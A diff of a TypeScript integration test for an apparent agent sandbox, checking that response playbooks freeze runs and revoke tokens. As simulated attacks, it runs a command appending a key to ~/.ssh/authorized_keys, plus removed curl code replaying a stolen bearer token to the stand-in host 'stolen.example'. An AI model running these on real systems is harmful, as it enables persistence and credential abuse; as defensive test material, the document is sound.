@@ -10,7 +10,8 @@ import { connect } from 'node:net';
 import { join } from 'node:path';
 import { after, before, describe, it } from 'node:test';
 import { BIN, ROOT, startServer, type Server } from '../support/cli.js';
-import { detection } from '../support/detections.js';
+import { detection, freezerState, responseAction } from '../support/detections.js';
+import { useTokenFromOutside } from '../support/egress.js';
 import { adminToken, api, type Api, type Json } from '../support/http.js';
 import { sandboxControlPlaneDir, sandboxSkip } from '../support/sandbox.js';
 import { eventually, until } from '../support/wait.js';
@@ -65,13 +66,17 @@ describe('shipped playbooks contain real runs', { skip }, () => {
       stdio: 'ignore',
     });
     children.push(c);
-    return eventually(async () => {
-      const runs = (await admin('GET', '/v1/runs')).json.runs as Json[];
-      return runs.find((x) => x.agent === agent && x.status === 'running')?.id as string | undefined;
-    }, `the run of ${agent}`);
+    return eventually(
+      async () => {
+        const runs = (await admin('GET', '/v1/runs')).json.runs as Json[];
+        // Any status: a run can be contained (and ended) before this first looks.
+        return runs.find((x) => x.agent === agent)?.id as string | undefined;
+      },
+      `the run of ${agent}`,
+      15_000,
+    );
   };
-  const freezer = (run: string): string =>
-    readFileSync(join('/sys/fs/cgroup/freezer', cp.cgroupParent, run, 'freezer.state'), 'utf8').trim();
+  const freezer = (run: string): string => freezerState(cp.cgroupParent, run);
   const channel = (run: string): string => join(cp.dir.dir, 'ws', '.egress', run, 'proxy.sock');
 
   before(async () => {
@@ -272,24 +277,8 @@ time.sleep(60)"`,
     assert.match(again.out, /RAMPART_E_CONFLICT: external traffic is not severed/);
   });
 
-  /** The action `action` by `playbook` done on `run`, once it is on record. */
-  const contained = async (run: string, action: string, playbook: string, ms = 10_000): Promise<Json> =>
-    eventually(
-      async () => {
-        const rs = ((await admin('GET', '/v1/audit/records?limit=10000')).json as { records: Json[] })
-          .records;
-        return rs.find(
-          (x) =>
-            x.action === 'event.respond.action' &&
-            x.details.data.run === run &&
-            x.details.data.action === action &&
-            x.details.data.playbook === playbook &&
-            x.details.data.outcome === 'done',
-        )?.details.data;
-      },
-      `${action} by ${playbook} on ${run}`,
-      ms,
-    );
+  const contained = (run: string, action: string, playbook: string): Promise<Json> =>
+    responseAction(admin, run, action, playbook);
 
   it('persistence, a stolen token, repeated probing and repeated decoding are contained; tampering is reported', async () => {
     const persist = await start('persister', 'mkdir -p ~/.ssh; echo key >> ~/.ssh/authorized_keys; sleep 60');
@@ -318,18 +307,7 @@ time.sleep(60)"`,
       async () => (existsSync(file) ? readFileSync(file, 'utf8').trim() : undefined),
       'the token copied out',
     );
-    const egressUrl = JSON.parse(
-      readFileSync(join(cp.dir.dir, '.rampart', 'control-plane.json'), 'utf8'),
-    ).egress;
-    const header = join(cp.dir.dir, 'stolen.header');
-    writeFileSync(header, `Proxy-Authorization: Bearer ${token}\n`, { mode: 0o600 });
-    spawnSync(
-      'curl',
-      ['-s', '-o', '/dev/null', '-x', egressUrl, '--proxy-header', `@${header}`, 'http://stolen.example/'],
-      {
-        timeout: 10_000,
-      },
-    );
+    useTokenFromOutside(cp.dir.dir, token);
     await contained(thief, 'revoke_tokens', 'stolen-token-use');
     await contained(thief, 'freeze', 'stolen-token-use');
     assert.equal((await admin('GET', '/v1/whoami', undefined, token)).status, 401);
@@ -364,10 +342,15 @@ time.sleep(60)"`,
       join(cp.dir.dir, 'site', 'bad.yaml'),
       '- playbook: bad\n  match: {rules: [no-such-rule]}\n  actions: [freeze]\n',
     );
-    const failed = await eventually(async () => {
-      const rs = ((await admin('GET', '/v1/audit/records?limit=10000')).json as { records: Json[] }).records;
-      return rs.find((x) => x.action === 'event.respond.playbooks_load_failed')?.details.data;
-    }, 'the failed load on record');
+    const failed = await eventually(
+      async () => {
+        const rs = ((await admin('GET', '/v1/audit/records?limit=10000')).json as { records: Json[] })
+          .records;
+        return rs.find((x) => x.action === 'event.respond.playbooks_load_failed')?.details.data;
+      },
+      'the failed load on record',
+      15_000,
+    );
     assert.match(
       failed.errors[0],
       /bad\.yaml:2:\d+: RAMPART_E_PLAYBOOKS_INVALID: playbook bad: match\.rules: no detection rule "no-such-rule"/,
@@ -384,6 +367,7 @@ time.sleep(60)"`,
     await eventually(
       async () => ((await admin('GET', '/v1/respond/playbooks')).json.version !== before ? true : undefined),
       'the fixed set active',
+      15_000,
     );
     assert.equal((await admin('GET', '/v1/health')).json.components.respond.status, 'ok');
   });
